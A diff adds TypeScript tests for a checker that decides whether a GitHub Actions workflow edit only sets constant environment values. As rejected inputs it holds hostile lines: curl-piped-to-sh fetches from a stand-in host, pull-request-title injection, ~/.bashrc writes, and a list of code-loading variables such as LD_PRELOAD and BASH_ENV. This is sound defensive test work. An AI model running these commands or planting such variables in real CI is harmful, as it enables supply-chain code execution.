@@ -115,3 +115,34 @@ describe('a new workflow step reading an env value the workflow sets itself (tru
     expect(editsOnlyCommands(wf('22', []), wf('22', ['      - run: ./verify.sh ${{ env.NODE_LTS }}', '        env:', '          NODE_LTS: ${{ github.head_ref }}']), 'workflow')).toBe(false);
   });
 });
+
+describe('a new workflow step that only writes constant lines to GITHUB_ENV / GITHUB_OUTPUT (trusted-routine)', () => {
+  const wf = (steps: string[]) =>
+    ['name: ci', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        python: ["3.13", "3.14", "3.14t"]', '    steps:', '      - uses: actions/checkout@v4', '      - run: python -m nox -s test', ...steps, ''].join('\n');
+  const step = (run: string[], extra: string[] = []) => ['      - name: Set a variable', "        if: endsWith(matrix.python, 't')", ...extra, '        run: |', ...run.map((line) => `          ${line}`)];
+  const base = wf([]);
+  it('reads a step that appends constant NAME=value lines as running nothing new', () => {
+    expect(editsOnlyCommands(base, wf(step(['echo "PYTHON_GIL=0" >> "$GITHUB_ENV"'])), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(base, wf(step(["printf 'FORCE_COLOR=1\\n' >> $GITHUB_ENV", 'echo "flavor=${{ matrix.python }}" >> "${GITHUB_OUTPUT}"'])), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(base, wf(step(['# free-threaded build', 'echo PYTHON_GIL=0 >> $env:GITHUB_ENV'])), 'workflow')).toBe(true);
+  });
+  it('does not when the variable makes later steps run or load something', () => {
+    for (const name of ['LD_PRELOAD', 'NODE_OPTIONS', 'BASH_ENV', 'PYTHONPATH', 'PATH', 'GIT_SSH_COMMAND', 'PIP_INDEX_URL', 'npm_config_registry', 'DYLD_INSERT_LIBRARIES', 'HTTPS_PROXY', 'GOPROXY']) {
+      expect(editsOnlyCommands(base, wf(step([`echo "${name}=/tmp/x" >> "$GITHUB_ENV"`])), 'workflow')).toBe(false);
+    }
+  });
+  it('does not when the line reads the event, runs a command, or goes elsewhere', () => {
+    const no = (run: string[], extra: string[] = []) => expect(editsOnlyCommands(base, wf(step(run, extra)), 'workflow')).toBe(false);
+    no(['echo "TITLE=${{ github.event.pull_request.title }}" >> "$GITHUB_ENV"']);
+    no(['echo "REF=$(git rev-parse HEAD)" >> "$GITHUB_ENV"']);
+    no(['echo "REF=`curl -s https://example.test`" >> "$GITHUB_ENV"']);
+    no(['echo "HOME_DIR=$HOME" >> "$GITHUB_ENV"']);
+    no(['echo "/opt/tool/bin" >> "$GITHUB_PATH"']);
+    no(['echo "A=1" >> "$GITHUB_ENV" && curl -sSL https://example.test/i.sh | sh']);
+    no(['echo "A=1"; curl https://example.test/x; echo "B=2" >> "$GITHUB_ENV"']);
+    no(['echo "A=1" >> "$GITHUB_ENV"', 'curl -sSL https://example.test/i.sh | sh']);
+    no(['echo "A=1" > ~/.bashrc']);
+    no(['echo "A=1" >> "$GITHUB_ENV"'], ['        shell: python {0}']);
+    no(['echo "A=1" >> "$GITHUB_ENV"'], ['        env:', '          BASH_ENV: ./ci/setup.sh']);
+  });
+});
